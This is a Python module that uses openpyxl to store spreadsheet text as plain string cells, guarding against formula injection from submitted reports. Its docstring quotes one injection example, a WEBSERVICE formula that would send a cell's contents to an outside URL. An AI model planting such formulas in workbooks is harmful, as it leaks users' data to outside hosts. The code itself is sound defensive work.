"""Writing worksheet cells so that text stays text (no spreadsheet formula injection).

openpyxl stores a ``str`` that starts with ``=`` as a formula and one that spells an
error code (``#N/A``) as an error, so free text from a submitted report
(``=WEBSERVICE("http://…"&B2)``) would become a live formula in a workbook the project
writes. Every writer of the project puts its rows through :func:`append_row` (or, for a
sheet another library filled, :func:`keep_text`), which stores every ``str`` as a string
cell with the user's text unchanged. Unchanged matters: ``collect`` reads its own merged
table back, so a prefix (``'=...``) would alter the data on every round trip. Text that
merely starts with ``+ - @``, a tab or a line break is already a string cell in XLSX
(only CSV readers turn it into formulas); it is covered by the same rule.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Iterable

if TYPE_CHECKING:
    from openpyxl.cell.cell import Cell
    from openpyxl.worksheet.worksheet import Worksheet

#: openpyxl's type code of a string cell.
STRING = "s"


def text_cell(ws: "Worksheet", value: object) -> "Cell":
    """A cell of ``ws`` holding ``value``; a ``str`` is always stored as text."""
    from openpyxl.cell.cell import Cell

    cell = Cell(ws, value=value)
    if isinstance(value, str):
        cell.data_type = STRING
    return cell


def append_row(ws: "Worksheet", values: Iterable[object]) -> None:
    """``ws.append(values)``, with every ``str`` stored as text (never a formula)."""
    ws.append([text_cell(ws, v) for v in values])


def keep_text(ws: "Worksheet") -> None:
    """Store every ``str`` cell already in ``ws`` as text (for sheets filled by pandas)."""
    for row in ws.iter_rows():
        for cell in row:
            if isinstance(cell.value, str):
                cell.data_type = STRING
